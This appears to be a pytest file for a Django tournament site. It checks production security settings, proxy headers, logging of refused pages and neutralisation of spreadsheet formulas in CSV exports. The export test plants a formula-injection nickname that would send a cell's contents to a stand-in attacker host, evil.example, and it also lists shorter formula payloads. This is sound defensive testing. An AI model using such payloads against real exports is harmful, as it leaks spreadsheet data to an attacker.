"""Production settings, security headers, safe exports and quiet refusals."""

from __future__ import annotations

import os
import subprocess
import sys

import pytest

#: Tests that run commands on a database of their own: once, in the SQLite pass.
ONCE = pytest.mark.skipif(
    bool(os.environ.get("DATABASE_URL")),
    reason="independent of the test database; runs in the SQLite pass",
)


def _deploy_check(tmp_path, **env: str) -> subprocess.CompletedProcess[str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("MAFIATAB_", "DJANGO_"))}
    clean.pop("DATABASE_URL", None)
    return subprocess.run(
        [sys.executable, "-m", "django", "check", "--deploy", "--fail-level", "WARNING"],
        env=clean
        | {"MAFIATAB_DATA_DIR": str(tmp_path), "DJANGO_SETTINGS_MODULE": "mafiatab.settings"}
        | env,
        capture_output=True,
        text=True,
        timeout=120,
    )


@ONCE
def test_the_deployment_check_is_clean_in_production_settings(tmp_path):
    result = _deploy_check(tmp_path, MAFIATAB_PRODUCTION="1")
    assert result.returncode == 0, result.stderr
    assert "no issues" in result.stdout


@ONCE
def test_the_deployment_check_warns_outside_production_settings(tmp_path):
    result = _deploy_check(tmp_path)
    assert result.returncode != 0
    assert "SESSION_COOKIE_SECURE" in result.stderr


def _settings(tmp_path, names: str, **env: str) -> list[str]:
    clean = {k: v for k, v in os.environ.items() if not k.startswith(("MAFIATAB_", "DJANGO_"))}
    code = (
        "import django; django.setup(); from django.conf import settings as s; "
        f"print(*[repr(getattr(s, n, None)) for n in {names.split()!r}], sep='|')"
    )
    result = subprocess.run(
        [sys.executable, "-c", code],
        env=clean
        | {"MAFIATAB_DATA_DIR": str(tmp_path), "DJANGO_SETTINGS_MODULE": "mafiatab.settings"}
        | env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    return result.stdout.strip().split("|")


@ONCE
def test_production_trusts_the_proxy_headers_unless_told_it_is_not_behind_one(tmp_path):
    names = "SESSION_COOKIE_SECURE SECURE_PROXY_SSL_HEADER USE_X_FORWARDED_HOST"
    assert _settings(tmp_path, names, MAFIATAB_PRODUCTION="1") == [
        "True",
        "('HTTP_X_FORWARDED_PROTO', 'https')",
        "True",
    ]
    assert _settings(tmp_path, names, MAFIATAB_PRODUCTION="1", MAFIATAB_BEHIND_PROXY="0") == [
        "True",
        "None",
        "False",
    ]
    assert _settings(tmp_path, names) == ["False", "None", "False"]


# --- safe exports ------------------------------------------------------------------------


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised():
    from mafiatab.security.exports import csv_cell

    for text in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("x","y")'):
        assert csv_cell(text) == "'" + text
    for value in ("Doc", "-0.50", "+1.25", "12", "a=b", "", 3, -0.5, None):
        assert csv_cell(value) == value


@pytest.mark.django_db
def test_a_formula_as_a_nickname_reaches_the_standings_csv_as_text(client, organiser):
    import csv
    import io
    import json

    from django.urls import reverse

    from mafiatab.core.demo import demo_tournament_dict
    from mafiatab.core.tournament_file import parse_tournament
    from mafiatab.standings.services.tournament_file import tournament_import

    evil = '=HYPERLINK("http://evil.example/?"&A1,"Doc")'
    text = json.dumps(demo_tournament_dict(), ensure_ascii=False)
    data = json.loads(text.replace('"Doc"', json.dumps(evil)))
    tournament = tournament_import(core=parse_tournament(data), by=organiser)
    response = client.get(reverse("standings:table", args=[tournament.slug]), {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    players = [row[1] for row in rows[1:]]
    assert "'" + evil in players and evil not in players
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    penalties = [row[5] for row in rows[1:]]
    assert any(p.startswith("-") and float(p) < 0 for p in penalties)  # numbers stay numbers


# --- logging -------------------------------------------------------------------------------


@pytest.fixture
def console_log():
    """What the site's console log handler writes during the test."""
    import io
    import logging

    from mafiatab.security.logging import OneLineRefusals

    handlers = [
        h
        for h in logging.getLogger().handlers
        if any(isinstance(f, OneLineRefusals) for f in h.filters)
    ]
    assert len(handlers) == 1
    handler = handlers[0]
    assert isinstance(handler, logging.StreamHandler)
    out = io.StringIO()
    handler.setStream(out)
    yield out
    handler.setStream(None)


@pytest.mark.django_db
def test_a_refused_page_is_logged_as_one_line_without_a_traceback(
    client, tournament, staff, console_log
):
    from django.urls import reverse

    client.force_login(staff["outsider"])
    url = reverse("registrations:manage", args=[tournament.slug])
    assert client.get(url).status_code == 403
    lines = console_log.getvalue().splitlines()
    assert lines and all("Traceback" not in line for line in lines)
    assert len(lines) == 1 and "Forbidden" in lines[0] and url in lines[0]


@pytest.mark.django_db
def test_a_server_error_keeps_its_traceback_in_the_log(console_log):
    import logging

    logging.getLogger("django.request").error(
        "Internal Server Error: /x", exc_info=ValueError("boom"), extra={"status_code": 500}
    )
    assert "ValueError: boom" in console_log.getvalue()


def test_the_console_log_writes_to_the_standard_error_of_the_moment(monkeypatch):
    import io
    import logging
    import sys

    from mafiatab.security.logging import StderrHandler

    handler = StderrHandler()
    first, second = io.StringIO(), io.StringIO()
    monkeypatch.setattr(sys, "stderr", first)
    handler.emit(logging.LogRecord("site", logging.WARNING, __file__, 1, "one", None, None))
    first.close()
    monkeypatch.setattr(sys, "stderr", second)
    handler.emit(logging.LogRecord("site", logging.WARNING, __file__, 1, "two", None, None))
    assert second.getvalue() == "two\n"
